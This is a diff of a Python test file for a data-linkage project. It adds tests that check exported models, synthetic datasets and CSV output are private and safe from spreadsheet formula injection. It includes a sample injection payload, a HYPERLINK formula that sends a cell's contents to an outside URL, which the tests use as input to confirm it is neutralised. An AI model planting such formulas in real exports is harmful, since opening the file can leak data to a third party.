@@ -21,12 +21,15 @@ from kuska.intake.errors import ErrorsWriter
 from kuska.intake.messages import problem
 from kuska.intake.submit import Rejection
 from kuska.intake.template import write_template
+from kuska.linkage.model import write_model
 from kuska.linkage.models import ClusterAssignment, LinkageRun
 from kuska.linkage.results import export
+from kuska.linkage.shipped import load_shipped_model
 from kuska.registry.models import PersonRecord
 from kuska.reports import write_formats
 from kuska.reports.model import Cell, Part, Report, Row, Section, Table
 from kuska.reports.xlsx import render_xlsx
+from kuska.synth import generate, write_dataset
 
 HOSTILE = [
     '=HYPERLINK("http://example.com/?"&A1,"x")',
@@ -207,3 +210,36 @@ def test_the_linkage_export_starts_no_formula_and_is_private(
         rows = list(csv.reader(handle))
     assert rows[1] == ["PNP", "'" + HOSTILE[0], str(record.pk)]
     assert (mode(path), mode(path.parent)) == (0o600, 0o700)
+
+
+def test_a_saved_linkage_model_is_private_in_a_private_folder(tmp_path: Path) -> None:
+    path = tmp_path / "linkage" / "model-run-1.json"
+    write_model(load_shipped_model(), path)
+    assert (mode(path), mode(path.parent)) == (0o600, 0o700)
+
+
+def test_the_synthetic_data_set_is_private(peru: None, tmp_path: Path) -> None:
+    out = tmp_path / "synth"
+    write_dataset(generate((2020,), seed=3), out)
+    written = [path for path in out.rglob("*") if path.is_file()]
+    assert {path.name for path in written} >= {"truth.csv", "README.txt", "persons.csv"}
+    assert {mode(path) for path in written} == {0o600}
+    assert {mode(path) for path in (out, *out.iterdir()) if path.is_dir()} == {0o700}
+
+
+@pytest.mark.django_db
+def test_the_stats_csv_on_standard_output_starts_no_formula(
+    peru: None, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from kuska.cli import main
+    from kuska.stats import series
+
+    # a place as an agency's file wrote it, grouped on: whatever reaches a cell is neutralised
+    hostile = HOSTILE[:4]
+    rows = [{"place": value, "value": 3, "rows": 1, "not_reported": 0} for value in hostile]
+    monkeypatch.setattr(series, "series_by", lambda *args, **kwargs: rows)
+    monkeypatch.setenv("KUSKA_LANGUAGE", "en")
+    capsys.readouterr()
+    assert main(["stats", "--series", "mininter", "--by", "place", "--format", "csv"]) == 0
+    found = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert [row[0] for row in found[1:]] == ["'" + value for value in hostile]
